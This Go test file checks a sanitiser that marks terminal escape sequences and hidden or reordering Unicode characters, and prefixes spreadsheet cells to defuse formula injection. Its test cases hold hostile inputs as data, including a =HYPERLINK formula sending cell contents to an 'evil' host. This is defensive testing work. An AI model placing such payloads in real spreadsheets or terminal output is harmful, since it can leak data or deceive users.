package plain

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

// hostile are characters that terminals act on, or that reorder or hide text.
const hostile = "a\x1b]0;t\x07\u009b2J\u202eb\u2066c\u200bd\u2028e\x00f\rg\U000e0001h\x80i"

func TestWhatIsNotShownIsMarked(t *testing.T) {
	var out bytes.Buffer
	w := Text(&out)
	for _, b := range []byte("begin\n\t" + hostile + "é…\n") { // byte by byte, so that characters are split
		if _, err := w.Write([]byte{b}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	want := "begin\n\ta·]0;t··2J·b·c·d·e·f·g·h·ié…\n"
	if out.String() != want {
		t.Errorf("%q, want %q", out.String(), want)
	}
	if got := Line(hostile + "\n"); got != "a·]0;t··2J·b·c·d·e·f·g·h·i·" {
		t.Errorf("a line: %q", got)
	}
}

func TestACutCharacterIsMarked(t *testing.T) {
	var out bytes.Buffer
	w := Text(&out)
	w.Write([]byte("x\xc2"))
	w.Close()
	if out.String() != "x·" {
		t.Errorf("%q", out.String())
	}
}

// Escaped JSON is equivalent.
func TestJSONSaysTheSame(t *testing.T) {
	want := strings.ToValidUTF8(hostile, "\ufffd") + "é"
	raw, err := json.MarshalIndent(map[string]string{"a": want}, "", "\t")
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	w := JSON(&out)
	w.Write(raw)
	w.Close()
	if at := strings.IndexFunc(out.String(), func(r rune) bool { return !shown(r) && r != '\n' && r != '\t' }); at >= 0 {
		t.Errorf("%q", out.String()[at:])
	}
	var got map[string]string
	if err := json.Unmarshal(out.Bytes(), &got); err != nil || got["a"] != want {
		t.Errorf("%q, %v, want %q", got["a"], err, want)
	}
}

func TestCells(t *testing.T) {
	for _, x := range []struct{ text, want string }{
		{"ward a", "ward a"},
		{"", ""},
		{"-1", "-1"},
		{"+1.5e-3", "+1.5e-3"},
		{"-.5", "-.5"},
		{"-Inf", "-Inf"},
		{`=HYPERLINK("http://evil/?"&A1,"x")`, `'=HYPERLINK("http://evil/?"&A1,"x")`},
		{"+1+cmd", "'+1+cmd"},
		{"-1+cmd", "'-1+cmd"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", `\u0009=1`},
		{"\r=1", `\u000d=1`},
		{" =1", "' =1"},
		{`"=1`, `'"=1`},
		{"a;=1", "a;'=1"},
		{"a; \"-1+1", "a;' \"-1+1"},
		{"a;b-c", "a;b-c"},
		{"＝1", "'＝1"},
		{"a\u202eb\x1bc\u009b", `a\u202eb\u001bc\u009b`},
		{"2-3", "2-3"},
	} {
		if got := Cell(x.text); got != x.want {
			t.Errorf("%q: %q, want %q", x.text, got, x.want)
		}
	}
}

func FuzzCell(f *testing.F) {
	for _, s := range []string{hostile, "=1", ";=1", "\t@", `"'+`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Cell(s)
		if !utf8.ValidString(got) || strings.ContainsFunc(got, func(r rune) bool { return !shown(r) }) {
			t.Errorf("%q: %q", s, got)
		}
		if got != s && number.MatchString(s) {
			t.Errorf("number %q: %q", s, got)
		}
		if !number.MatchString(got) && strings.ContainsAny(got[:min(1, len(got))], "=+-@") {
			t.Errorf("%q: %q", s, got)
		}
	})
}
